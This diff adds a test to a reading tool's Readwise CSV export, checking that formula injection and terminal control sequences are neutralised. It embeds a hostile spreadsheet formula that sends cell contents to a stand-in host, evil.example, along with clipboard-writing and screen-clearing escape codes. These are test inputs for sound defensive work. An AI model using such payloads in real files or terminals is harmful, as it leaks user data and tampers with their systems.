@@ -235,3 +235,22 @@ def test_obsidian_notes_carry_no_terminal_controls(tmp_path: Path, capsys) -> No
     _export(vault, capsys)
     text = _seed_note(vault).read_text("utf-8")
     assert "\x1b" not in text and "\x07" not in text and "␛[2J" in text
+
+
+def test_readwise_csv_cells_never_run_as_formulas_or_control_the_terminal(capsys) -> None:
+    from reader.core.exports import csv_cell
+
+    assert main(["bookmarks", "add", str(SEED), "--sentence", "2", "--note",
+                 '=HYPERLINK("http://evil.example/?leak="&A2,"x")']) == 0
+    assert main(["bookmarks", "add", str(SEED), "--sentence", "3", "--note",
+                 "@SUM(1+1) \x1b]52;c;aGk=\x07 \x1b[2J"]) == 0
+    capsys.readouterr()
+    assert main(["export", "readwise", "-"]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out
+    rows = list(csv.reader(io.StringIO(out)))[1:]
+    notes = sorted(r[4] for r in rows)
+    assert notes[0].startswith("'=HYPERLINK") and notes[1].startswith("'@SUM")
+    for cell in ("-1+2", "+x", "\tx", "\rx"):
+        assert csv_cell(cell).startswith("'")
+    assert csv_cell("plain words") == "plain words"
